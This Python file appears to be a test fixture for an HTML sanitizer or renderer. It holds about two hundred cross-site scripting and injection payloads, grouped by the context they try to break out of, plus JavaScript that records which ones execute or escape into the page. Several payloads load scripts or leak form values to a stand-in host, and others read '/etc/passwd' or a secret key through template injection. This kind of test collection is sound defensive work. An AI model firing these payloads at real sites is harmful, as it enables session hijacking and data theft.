"""Two hundred ways to make a page run what somebody wrote, by the place in a page that each tries to break out of.

Every one calls `pwned()`, which nothing else does; the words of a payload are all ours.
"""

from itertools import chain

RUN = "pwned(1)"

HTML = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script\x0c>{RUN}</script>",
    f"<script/x>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<<script>{RUN}//<</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</option></select><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f'<!--<img src="--><img src=x onerror={RUN}//">',
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<?xml ><img src=x onerror={RUN}>?>",
    f"<%<img src=x onerror={RUN}>",
    "<script src=//pwned.example/x.js></script>",
    "<script type=module>import('//pwned.example/x.js')</script>",
    "<script src='data:text/javascript,pwned(1)'></script>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned(1)'>",
    "<link rel=stylesheet href=//pwned.example/x.css>",
    "<link rel=import href=//pwned.example/>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<applet code=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button>Go</button></form>",
    f"<form id=f><button form=f formaction=javascript:{RUN}>Go</button>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<portal src=javascript:{RUN}></portal>",
    f"<fencedframe src=javascript:{RUN}></fencedframe>",
]
_EVENTS = {
    "img src=x": "error",
    "body": "load",
    "svg": "load",
    "input autofocus": "focus",
    "select autofocus": "focus",
    "textarea autofocus": "focus",
    "button autofocus": "focus",
    "details open": "toggle",
    "video src=x": "error",
    "audio src=x": "error",
    "video><source": "error",
    "marquee": "start",
    "div style=animation-name:x": "animationstart",
    "div tabindex=1 autofocus": "focus",
    "p contenteditable autofocus": "focus",
    "a href=# autofocus": "focus",
    "style": "load",
    "link rel=stylesheet href=x": "error",
    "iframe": "load",
    "object data=x": "error",
    "img srcset=x": "error",
    "input type=image src=x": "error",
    "dialog open": "beforetoggle",
    "div popover": "beforetoggle",
    "div onscrollend=1 style=overflow:scroll": "scrollend",
    "x": "pointerrawupdate",
    "x ": "mouseover",
    "x  ": "click",
    "x tabindex=0": "keydown",
    "x draggable=true": "dragstart",
}
HANDLERS = [f"<{tag} on{event}={RUN}>" for tag, event in _EVENTS.items()]
SPELLED = [
    f"<img/src=x/onerror={RUN}>",
    f"<img\tsrc=x\tonerror={RUN}>",
    f"<img\nsrc=x\nonerror={RUN}>",
    f"<img src=x OnErRoR={RUN}>",
    f"<img src=x onerror\t=\t{RUN}>",
    f"<img src=x onerror=`{RUN}`>",
    "<img src=x onerror=&#112;wned(1)>",
    "<img src=x onerror=&#x70;wned(1)>",
    "<img src=x onerror=\\u0070wned(1)>",
    "<img src=x onerror=window['pw'+'ned'](1)>",
    "<img src=x onerror=top[/pwned/.source](1)>",
    "<img src=x onerror=pwned`1`>",
    "<img src=x onerror=setTimeout('pwned(1)')>",
    "<img src=x onerror=[1].find(pwned)>",
    "<img src=x onerror=throw/**/onerror=pwned,1>",
    "<img src=x onerror=location='javascript:pwned(1)'>",
    "<img src=x onerror=eval(atob('cHduZWQoMSk='))>",
    f'<img src="x"onerror="{RUN}"',
    f"<img src=x onerror={RUN} ",
    f"<img src=x onerror={RUN}//",
    f"<svg/onload={RUN}>",
    f"<svg\u00a0onload={RUN}>",
    f"<\u0000img src=x onerror={RUN}>",
    f"<img src=x onerror\u0000={RUN}>",
    f"\uff1cimg src=x onerror={RUN}\uff1e",
    f"\u2039script\u203a{RUN}\u2039/script\u203a",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"%253Cscript%253E{RUN}%253C/script%253E",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    f"<im\u200dg src=x onerror={RUN}>",
]
ATTRIBUTES = [
    f'" autofocus onfocus={RUN} x="',
    f"' autofocus onfocus={RUN} x='",
    f"` autofocus onfocus={RUN} x=`",
    f" autofocus onfocus={RUN} ",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f"><script>{RUN}</script>",
    f'"/><svg onload={RUN}>',
    f"'/><svg onload={RUN}>",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'" style="animation-name:x" onanimationstart="{RUN}',
    f'" hx-get="/" hx-on:click="{RUN}" x="',
    f'" hx-on::load="{RUN}" x="',
    f'" hx-vals="js:{{a:{RUN}}}" hx-get="/" hx-trigger="load" x="',
    "<div hx-get=/ hx-trigger=load hx-vals='js:{a:pwned(1)}'>",
    "<div data-hx-get=/ data-hx-trigger=load[pwned(1)]>",
    "<div hx-ext=pwned hx-on--load=pwned(1)>",
    f'x" accesskey="x" onclick="{RUN}',
    f"\u201d onfocus={RUN} autofocus \u201d",
    f"&quot; onfocus={RUN} autofocus &quot;",
    f"&#34; onfocus={RUN} autofocus &#34;",
    f'\\" onfocus={RUN} autofocus \\"',
    f'" formaction="javascript:{RUN}',
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f" javascript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript\u003a{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58;{RUN}",
    f"javascript%3A{RUN}",
    f"javascript://x/%0A{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg onload={RUN}>",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:{RUN}",
    "blob:https://pwned.example/x",
    "//pwned.example/x",
    "\\\\pwned.example\\x",
    "https://pwned.example@x",
    f"view-source:javascript:{RUN}",
    f'https://pwned.example/" onclick="{RUN}',
    f"https://pwned.example/'onclick='{RUN}",
    f"http://pwned.example/<img src=x onerror={RUN}>",
    f"[click](javascript:{RUN})",
    f'![x](x"onerror="{RUN})',
    f"<javascript:{RUN}>",
]
SCRIPTS = [
    f'";{RUN};//',
    f"';{RUN};//",
    f"`;{RUN};//",
    f"${{{RUN}}}",
    f"</script><script>{RUN}</script>",
    f"</script><img src=x onerror={RUN}>",
    f"<!--<script>{RUN}",
    f'\\";{RUN};//',
    f"\\';{RUN};//",
    f"\u2028{RUN}\u2028",
    f"\u2029{RUN}//",
    f"*/{RUN}/*",
    f"]]>{RUN}<![CDATA[",
    f'{{"__proto__":{{"onerror":"{RUN}"}}}}',
    f"__proto__[src]=data:,{RUN}",
    f"constructor.constructor('{RUN}')()",
]
STYLES = [
    "</style><style>*{background:url(//pwned.example)}</style>",
    "<style>@import '//pwned.example/x.css';</style>",
    '<div style="background:url(//pwned.example)">',
    "<div style=position:fixed;inset:0;z-index:99999>pwned</div>",
    f"<div style=width:expression({RUN})>",
    "<style>input[value^=a]{background:url(//pwned.example/a)}</style>",
    '";}*{background:url(//pwned.example)}/*',
    f"<xss style=-moz-binding:url(//pwned.example#{RUN})>",
]
DRAWINGS = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN}></script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned(1)></svg>#x'></use></svg>",
    f"<svg><image href=x onerror={RUN}></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
]
MUTATIONS = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
    f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp>',
    f"<template><img src=x onerror={RUN}></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    f"<select><noembed></select><script x='a@b'>{RUN}</script>",
    f"<table><td><svg><desc><td></desc></svg><img src=x onerror={RUN}>",
    f'<p id="a"><p id="lines"><img name=body><img src=x onerror={RUN}>',
    f"<a id=strings><a id=strings name=close href=javascript:{RUN}>",
    f"<form id=reply><input name=attributes><img src=x onerror={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
]
TEMPLATES = [
    f"{{{{{RUN}}}}}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{% verbatim %}}<script>{RUN}</script>{{% endverbatim %}}",
    "{% include '/etc/passwd' %}{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}{{ 7|add:7 }}pwned",
    f"{{{{ '<script>{RUN}</script>'|safe }}}}",
    f"{{% autoescape off %}}<img src=x onerror={RUN}>{{% endautoescape %}}",
    "%(name)s %s %n pwned",
    "{0.__class__.__mro__} {name} {pwned}",
    f"#{{{RUN}}} <%= {RUN} %>",
]
LETTERS = [
    "\u202egnp.denwp\u202c",
    "pwned\u202e\u2066",
    "\u2067pwned\u2066\u2066\u2066",
    "pwned\u2069\u2069\u2069)",
    "\u200f\u200epwned\u061c",
    "p" + "\u0301" * 60 + "wned",
    "p" + "\u0e47" * 60 + "wned",
    "pwned" + "W" * 180,
    "pwned" + "\u0645" * 180,
    "pwned\ufdfd\ufdfd\ufdfd\ufdfd",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 pwned \U0001f3f4\U000e0070\U000e007f",
    "pwned\ufeff\u00ad\u2060\u180e",
    "pwned\r\n\r\nSet-Cookie: a=b",
    "pwned\x1b[31m\x07\x08",
    '=HYPERLINK("//pwned.example")',
]
PAYLOADS: list[str] = list(
    chain(
        HTML, HANDLERS, SPELLED, ATTRIBUTES, ADDRESSES, SCRIPTS, STYLES, DRAWINGS, MUTATIONS, TEMPLATES, LETTERS
    )
)  # fmt: skip
SHORT = [one for one in PAYLOADS if len(one) <= 60]

# Runs in every document before anything else of it: whatever calls pwned(), or is refused by the policy, is kept.
TRAP = """(() => {
  const ran = [];
  Object.defineProperty(window, '__ran', {value: ran});
  for (const name of ['pwned', 'alert', 'confirm', 'prompt'])
    Object.defineProperty(window, name, {value: (...given) => { ran.push(`${name}(${given})`); return true; }});
  document.addEventListener('securitypolicyviolation', e => {
    const {effectiveDirective: what, blockedURI, sample} = e;
    if (what !== 'frame-ancestors') ran.push(`refused ${what} ${blockedURI} ${sample}`);
  });
})()"""

# What of the payloads became part of the page instead of its text; and text that leaves its place.
ESCAPED = """() => {
  const found = [...window.__ran];
  const leads = 'href src action formaction srcdoc style xlink:href data srcset poster ping'.split(' ');
  const never = 'x xss marquee object embed base portal math plaintext applet fencedframe listing'.split(' ');
  for (const one of document.querySelectorAll('*')) {
    const name = one.localName;
    for (const {name: key, value} of one.attributes) {
      if (/^on|^(data-)?hx-on/.test(key)) found.push(`<${name} ${key}>`);
      if (/^(data-)?hx-/.test(key) && /pwned|js:/.test(value)) found.push(`<${name} ${key}=${value}>`);
      if (leads.includes(key) && /pwned/i.test(value)) {
        let to = {};
        try { to = new URL(value, location.href); } catch {}
        if (to.origin !== location.origin) found.push(`<${name} ${key}=${value}>`);
      }
    }
    if (['script', 'style'].includes(name) && one.type !== 'application/json' && /pwned/.test(one.textContent))
      found.push(`<${name}>${one.textContent.slice(0, 80)}`);
    if (never.includes(name)) found.push(`<${name}>`);
  }
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const text = walker.currentNode, home = text.parentElement;
    if (!/pwned|denwp/.test(text.data) || !home.checkVisibility()) continue;
    if (['SCRIPT', 'STYLE', 'OPTION', 'TEXTAREA'].includes(home.tagName)) continue;
    let apart = home;
    while (apart && !/isolate|plaintext/.test(getComputedStyle(apart).unicodeBidi)) apart = apart.parentElement;
    if (!apart || apart === document.documentElement || apart === document.body)
      found.push(`not apart: ${home.outerHTML.slice(0, 160)}`);
  }
  const wide = document.documentElement.scrollWidth - document.documentElement.clientWidth;
  if (wide > 1) found.push(`${wide} px wider than the window`);
  return [...new Set(found)];
}"""
